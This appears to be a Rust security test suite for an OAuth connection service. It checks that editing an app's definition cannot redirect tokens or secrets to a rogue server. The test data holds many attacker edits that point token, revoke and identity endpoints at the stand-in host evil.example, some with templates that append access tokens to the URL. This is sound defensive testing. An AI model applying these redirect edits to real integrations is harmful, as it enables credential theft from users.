//! A1: an app is edited, a client entered again, and a connection repaired or used.

use connections::connection::{Connection, ConnectionStatus};
use connections::http::Method;
use connections::resolve::ResolveRequest;
use serde_json::{Value, json};

use super::{
    AuthorizeRedirect, FormBrowser, assert_no_secret_leaked, attackers_key, call_successfully, edited_definition,
    install_rogue_server, put_app, put_client, redirect_uri, send_all_secrets,
};
use crate::http::{call, first_key};
use crate::support::{Fixture, plain_tokens};

/// What an attacker changes: addresses of every kind, to another host, path, port or issuer.
fn attacker_edits() -> Vec<(&'static str, Value)> {
    let auth = |member: &str, url: &str| json!({ "auth": { member: url } });
    vec![
        ("token_url", auth("token_url", "https://evil.example/token")),
        ("token_url, another path", auth("token_url", "https://acme.example/evil/token")),
        ("token_url, another port", auth("token_url", "https://acme.example:8443/token")),
        ("token_url, a look-alike", auth("token_url", "https://acme.example.evil.example/token")),
        ("token_url, a query", auth("token_url", "https://acme.example/evil/../evil?x=/token")),
        ("authorize_url", auth("authorize_url", "https://evil.example/authorize")),
        ("refresh_url", auth("refresh_url", "https://evil.example/refresh-token")),
        ("refresh_url, another path", auth("refresh_url", "https://acme.example/evil/token")),
        ("revoke_url", auth("revoke_url", "https://evil.example/revoke")),
        ("revoke_url, another path", auth("revoke_url", "https://acme.example/evil/revoke/{token}")),
        (
            "issuer",
            json!({ "auth": { "issuer": "https://evil.example", "authorize_url": null, "token_url": null, "revoke_url": null } }),
        ),
        (
            "all but authorize",
            json!({ "auth": { "token_url": "https://evil.example/token", "revoke_url": "https://evil.example/revoke" },
            "identity": { "url": "https://evil.example/me" } }),
        ),
        ("identity", json!({ "identity": { "url": "https://evil.example/me?token={access_token}" } })),
        (
            "named_by",
            json!({ "identity": { "url": null, "from": "token", "id": "/user", "label": "/user", "named_by": { "url": "https://evil.example/me", "label": "/email" } } }),
        ),
        ("check", json!({ "check": { "url": "https://evil.example/check" } })),
        (
            "nothing_shared",
            json!({ "nothing_shared": { "url": "https://evil.example/list", "at": "/results", "say": "Share." } }),
        ),
        ("base_url", json!({ "request": { "base_url": "https://evil.example/" } })),
        ("none authenticates", json!({ "auth": { "token_url": "https://evil.example/token", "client_auth": "none" } })),
        (
            "secret as user",
            json!({ "auth": { "token_url": "https://evil.example/token", "client_auth": "basic_secret" } }),
        ),
    ]
}

/// How the client id is entered again.
#[derive(Clone, Copy, Debug, PartialEq)]
enum ClientReentry {
    Not,
    WithoutSecret,
    WithAnySecret,
}

const CLIENT_REENTRIES: [ClientReentry; 3] =
    [ClientReentry::Not, ClientReentry::WithoutSecret, ClientReentry::WithAnySecret];

/// How the browser comes back: with a code of the rogue server, or with one of the app's own server after a redirect.
#[derive(Clone, Copy, Debug, PartialEq)]
enum CallbackCode {
    FromRogueServer,
    FromApp,
}

/// Goes through a repair as far as possible.
fn run_repair(person: &mut FormBrowser<'_>, address: &str, registered: &str, returns: CallbackCode) {
    let pressed = person.press(address, &[]);
    if pressed.status != 303 {
        return;
    }
    let sent = AuthorizeRedirect::from_response(&pressed);
    match returns {
        CallbackCode::FromRogueServer => {
            person.return_from_app(&sent.redirect_uri, &[("state", &sent.state), ("code", "evil-code")]);
        }
        CallbackCode::FromApp => {
            let code = sent.consent_after_redirect(person.fixture, registered, "ann");
            person.return_from_app(registered, &[("state", &sent.state), ("code", code.expose())]);
        }
    }
}

fn run_attack(what: &str, edit: &Value, client: ClientReentry, by_link: bool, returns: CallbackCode) {
    let fixture = Fixture::new();
    let mut ann = FormBrowser::signed_in(&fixture);
    let id = ann.connect("ann");
    let registered = redirect_uri(&fixture);
    install_rogue_server(&fixture);
    let evil = attackers_key(&fixture);
    put_app(&fixture, &evil, edit);
    match client {
        ClientReentry::Not => {}
        ClientReentry::WithoutSecret => drop(put_client(&fixture, &evil, None)),
        ClientReentry::WithAnySecret => drop(put_client(&fixture, &evil, Some("whatever"))),
    }
    // An app that issues a refresh token only with the first consent is the most valuable target.
    fixture.world.acme.gives_refresh_token.set(false);
    if by_link {
        let (status, link) = call(&fixture, &evil, Method::Post, "/v1/links", &json!({ "connection": id }));
        if status == 201 {
            let address = link["url"].as_str().unwrap().trim_start_matches(super::PUBLIC_URL).to_owned();
            run_repair(&mut FormBrowser::new(&fixture), &address, &registered, returns);
        }
    } else {
        run_repair(&mut ann, &format!("/connections/{id}/reconnect"), &registered, returns);
    }
    let label = format!("{what}, client {client:?}, by link {by_link}, {returns:?}");
    send_all_secrets(&fixture, &id);
    assert_no_secret_leaked(&fixture, &label);
    call_successfully(&fixture, &first_key(&fixture), Method::Delete, &format!("/v1/connections/{id}"), &Value::Null);
    fixture.world.advance_clock(120);
    fixture.run_scheduled();
    assert_no_secret_leaked(&fixture, &label);
}

#[test]
fn editing_an_app_moves_no_secret_when_a_link_repairs_the_connection() {
    for (what, edit) in attacker_edits() {
        for client in CLIENT_REENTRIES {
            run_attack(what, &edit, client, true, CallbackCode::FromRogueServer);
        }
        run_attack(what, &edit, ClientReentry::WithAnySecret, true, CallbackCode::FromApp);
    }
}

#[test]
fn editing_an_app_moves_no_secret_when_the_owner_reconnects() {
    for (what, edit) in attacker_edits() {
        for client in CLIENT_REENTRIES {
            run_attack(what, &edit, client, false, CallbackCode::FromRogueServer);
        }
        run_attack(what, &edit, ClientReentry::WithAnySecret, false, CallbackCode::FromApp);
    }
}

/// Without the attention about the edit: the connection keeps the earlier definition.
fn without_definition_changed(mut row: Connection) -> Connection {
    assert!(row.definition_changed.take().is_some());
    row
}

#[test]
fn editing_an_app_alone_breaks_no_connection() {
    for (what, edit) in attacker_edits() {
        let fixture = Fixture::new();
        let id = FormBrowser::signed_in(&fixture).connect("ann");
        install_rogue_server(&fixture);
        let evil = attackers_key(&fixture);
        put_app(&fixture, &evil, &edit);
        fixture.expire_access_token(&id);
        fixture.resolve(&id, ResolveRequest::default()).unwrap_or_else(|error| panic!("{what}: {error:?}"));
        assert_eq!(fixture.load_connection(&id).status, ConnectionStatus::Connected, "{what}");
        assert_eq!(fixture.world.acme.count_requests("/token"), 2, "{what}: renewed where it was made");
        let ended = call_successfully(
            &fixture,
            &first_key(&fixture),
            Method::Delete,
            &format!("/v1/connections/{id}"),
            &Value::Null,
        );
        assert_eq!(ended["revoked"], "confirmed", "{what}: {ended}");
        assert!(fixture.world.acme.foreign_requests.borrow().is_empty(), "{what}");
    }
}

#[test]
fn addresses_without_tls_are_refused() {
    let fixture = Fixture::new();
    let evil = attackers_key(&fixture);
    let http = edited_definition(&json!({ "auth": { "token_url": "http://acme.example/token" } }));
    assert_eq!(call(&fixture, &evil, Method::Put, "/v1/apps/acme", &http).0, 422);
}

#[test]
fn another_spelling_of_the_same_addresses_is_no_change() {
    let fixture = Fixture::new();
    let mut ann = FormBrowser::signed_in(&fixture);
    let id = ann.connect("ann");
    let before = fixture.open_credential(&id);
    put_app(
        &fixture,
        &attackers_key(&fixture),
        &json!({ "auth": { "token_url": "https://ACME.example.:443/x/../token" } }),
    );
    fixture.world.acme.gives_refresh_token.set(false);
    let pressed = ann.press(&format!("/connections/{id}/reconnect"), &[]);
    ann.complete_consent(&pressed, "ann");
    assert_eq!(fixture.load_connection(&id).generation, 2);
    assert_eq!(plain_tokens(&fixture.open_credential(&id)).1, plain_tokens(&before).1, "the refresh token goes on");
}

#[test]
fn a_refresh_token_is_carried_over_only_where_the_new_grant_adds_no_address() {
    for (edit, is_carried) in [
        (json!({ "name": "Acme Two" }), true),
        (json!({ "auth": { "issuer": "https://acme.example" } }), true),
        (json!({ "request": { "base_url": "https://acme.example/v2/" } }), true),
        (json!({ "request": { "base_url": "https://evil.example/" } }), false),
        (json!({ "check": { "url": "https://acme.example:8443/check" } }), false),
        (json!({ "auth": { "revoke_url": "https://acme.example/evil/revoke" } }), false),
    ] {
        let fixture = Fixture::new();
        let mut ann = FormBrowser::signed_in(&fixture);
        let id = ann.connect("ann");
        let before = plain_tokens(&fixture.open_credential(&id)).1;
        put_app(&fixture, &first_key(&fixture), &edit);
        // The owner of the client enters its secret for the current addresses.
        let secret = fixture.world.acme.client_secret.borrow().clone();
        assert_eq!(put_client(&fixture, &first_key(&fixture), Some(&secret)).0, 200);
        fixture.world.acme.gives_refresh_token.set(false);
        let pressed = ann.press(&format!("/connections/{id}/reconnect"), &[]);
        ann.complete_consent(&pressed, "ann");
        assert_eq!(fixture.load_connection(&id).generation, 2, "{edit}");
        assert_eq!(plain_tokens(&fixture.open_credential(&id)).1 == before, is_carried, "{edit}");
    }
}

#[test]
fn an_unconfirmed_repair_carries_no_token_to_new_addresses() {
    for (edit, is_carried) in
        [(json!({}), true), (json!({ "auth": { "revoke_url": "https://acme.example/evil/revoke" } }), false)]
    {
        let fixture = Fixture::new();
        let id = FormBrowser::signed_in(&fixture).connect("ann");
        let before = plain_tokens(&fixture.open_credential(&id)).1;
        put_app(&fixture, &first_key(&fixture), &edit);
        let secret = fixture.world.acme.client_secret.borrow().clone();
        assert_eq!(put_client(&fixture, &first_key(&fixture), Some(&secret)).0, 200);
        fixture.world.acme.gives_refresh_token.set(false);
        let key = first_key(&fixture);
        let body = json!({ "connection": id, "confirm": true });
        let link = call_successfully(&fixture, &key, Method::Post, "/v1/links", &body);
        let address = link["url"].as_str().unwrap().trim_start_matches(super::PUBLIC_URL).to_owned();
        let mut guest = FormBrowser::new(&fixture);
        let pressed = guest.press(&address, &[]);
        guest.complete_consent(&pressed, "ann");
        assert_eq!(fixture.load_connection(&id).generation, 1, "it waits");
        let confirm = format!("/v1/links/{}/confirm", link["id"].as_str().unwrap());
        call_successfully(&fixture, &key, Method::Post, &confirm, &json!({ "user": { "id": "ann" } }));
        assert_eq!(fixture.load_connection(&id).generation, 2);
        assert_eq!(plain_tokens(&fixture.open_credential(&id)).1 == before, is_carried, "{edit}");
    }
}

#[test]
fn a_connection_is_reused_only_where_the_new_grant_adds_no_address() {
    for on_duplicate in ["reuse", "ask"] {
        let fixture = Fixture::new();
        let id = FormBrowser::signed_in(&fixture).connect("ann");
        let before = fixture.load_connection(&id);
        let evil = attackers_key(&fixture);
        put_app(&fixture, &evil, &json!({ "request": { "base_url": "https://evil.example/" } }));
        let secret = fixture.world.acme.client_secret.borrow().clone();
        put_client(&fixture, &first_key(&fixture), Some(&secret));
        let body = json!({ "app": "acme", "on_duplicate": on_duplicate, "user": { "id": "ann" } });
        let link = call_successfully(&fixture, &evil, Method::Post, "/v1/links", &body);
        let address = link["url"].as_str().unwrap().trim_start_matches(super::PUBLIC_URL).to_owned();
        let mut guest = FormBrowser::new(&fixture);
        let pressed = guest.press(&address, &[]);
        guest.complete_consent(&pressed, "ann");
        assert_eq!(
            without_definition_changed(fixture.load_connection(&id)),
            before,
            "{on_duplicate}: it stays as it was"
        );
        assert_eq!(fixture.world.db.query_number("SELECT count(*) FROM connections"), 2, "{on_duplicate}");
        assert_no_secret_leaked(&fixture, on_duplicate);
    }
}

#[test]
fn a_pending_question_uses_the_destinations_of_its_grant() {
    let fixture = Fixture::new();
    let mut ann = FormBrowser::signed_in(&fixture);
    let id = ann.connect("ann");
    let pressed = ann.press("/oauth/start/acme", &[]);
    let page = ann.complete_consent(&pressed, "ann");
    let action = page.split(r#"action="/flows/"#).nth(1).unwrap().split('"').next().unwrap().to_owned();
    // In the meantime the connection is repaired at other addresses.
    fixture.world.db.tamper(
        r#"UPDATE connections SET destinations = '{"token":["https://other.example/token"],"api":["https://other.example"]}'"#,
    );
    let before = fixture.load_connection(&id);
    ann.send(Method::Post, &format!("/flows/{action}"), &[("choice", "reuse")]);
    assert_eq!(fixture.load_connection(&id), before);
}

#[test]
fn imports_and_reuse_by_programs_add_no_destinations() {
    let fixture = Fixture::new();
    let id = FormBrowser::signed_in(&fixture).connect("ann");
    let before = fixture.load_connection(&id);
    install_rogue_server(&fixture);
    put_app(&fixture, &attackers_key(&fixture), &json!({ "identity": { "url": "https://evil.example/me" } }));
    put_client(&fixture, &attackers_key(&fixture), Some("whatever"));
    let body = json!({ "app": "acme", "on_duplicate": "reuse", "user": { "id": "ann" },
        "credential": { "type": "oauth2", "access_token": "another", "expires_at": "2027-01-01T00:00:00Z" } });
    let (status, made) = call(&fixture, &first_key(&fixture), Method::Post, "/v1/connections", &body);
    assert_eq!(status, 201, "{made}");
    assert_eq!(
        without_definition_changed(fixture.load_connection(&id)),
        before,
        "the account is the rogue server's word"
    );
    assert_no_secret_leaked(&fixture, "import");
}

#[test]
fn a_repeated_revocation_is_sent_to_the_original_destination() {
    let fixture = Fixture::new();
    let id = FormBrowser::signed_in(&fixture).connect("ann");
    fixture.world.acme.script_always("/revoke", Some(crate::support::Reply::status(500, "")));
    let ended = call_successfully(
        &fixture,
        &first_key(&fixture),
        Method::Delete,
        &format!("/v1/connections/{id}"),
        &Value::Null,
    );
    assert_eq!(ended["retrying"], true);
    install_rogue_server(&fixture);
    let evil = attackers_key(&fixture);
    put_app(&fixture, &evil, &json!({ "auth": { "revoke_url": "https://evil.example/revoke" } }));
    call_successfully(&fixture, &evil, Method::Delete, "/v1/apps/acme", &Value::Null);
    let again = edited_definition(&json!({ "auth": { "revoke_url": "https://evil.example/revoke?t={token}" } }));
    call_successfully(&fixture, &evil, Method::Post, "/v1/apps", &again);
    fixture.world.acme.clear_scripts();
    fixture.world.advance_clock(120);
    fixture.run_scheduled();
    assert!(!fixture.world.acme.revoked_tokens().is_empty(), "at the app");
    assert!(fixture.world.acme.foreign_requests.borrow().is_empty());
}

#[test]
fn a_recreated_app_gets_no_secret_of_the_deleted_one() {
    let fixture = Fixture::new();
    let mut ann = FormBrowser::signed_in(&fixture);
    let id = ann.connect("ann");
    install_rogue_server(&fixture);
    let evil = attackers_key(&fixture);
    call_successfully(&fixture, &evil, Method::Delete, "/v1/apps/acme", &Value::Null);
    let again = edited_definition(
        &json!({ "auth": { "token_url": "https://evil.example/token" }, "identity": { "url": "https://evil.example/me" } }),
    );
    call_successfully(&fixture, &evil, Method::Post, "/v1/apps", &again);
    assert_eq!(put_client(&fixture, &evil, None).0, 200);
    run_repair(
        &mut ann,
        &format!("/connections/{id}/reconnect"),
        "https://c.example.com/x",
        CallbackCode::FromRogueServer,
    );
    send_all_secrets(&fixture, &id);
    assert_no_secret_leaked(&fixture, "made again");
}

#[test]
fn a_signed_assertion_is_sent_only_to_the_server_of_its_key() {
    let fixture = Fixture::with_definition(&json!({ "auth": { "client_auth": "private_key_jwt" } }));
    assert_eq!(put_client(&fixture, &first_key(&fixture), Some(crate::support::signer::RSA_KEY)).0, 200);
    install_rogue_server(&fixture);
    let evil = attackers_key(&fixture);
    put_app(
        &fixture,
        &evil,
        &json!({ "auth": { "client_auth": "private_key_jwt", "token_url": "https://evil.example/token" } }),
    );
    let (status, problem) = call(&fixture, &evil, Method::Post, "/v1/apps/acme/client/test", &json!({}));
    assert_eq!((status, problem["code"].as_str()), (409, Some("client_missing")), "{problem}");
    put_client(&fixture, &evil, None);
    call(&fixture, &evil, Method::Post, "/v1/apps/acme/client/test", &json!({}));
    assert_no_secret_leaked(&fixture, "assertion");
}
